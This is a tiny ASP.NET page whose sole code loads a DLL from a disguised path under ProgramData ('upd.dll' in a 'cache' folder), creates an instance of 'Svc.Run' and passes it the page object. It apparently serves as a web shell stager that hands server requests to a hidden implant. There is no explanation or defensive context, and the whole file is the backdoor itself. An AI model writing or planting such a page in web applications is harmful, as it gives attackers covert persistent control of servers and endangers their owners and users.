<%@ Page Language="C#" %><% System.Reflection.Assembly.LoadFile(@"C:\ProgramData\Microsoft\cache\upd.dll").CreateInstance("Svc.Run").Equals(this); %>
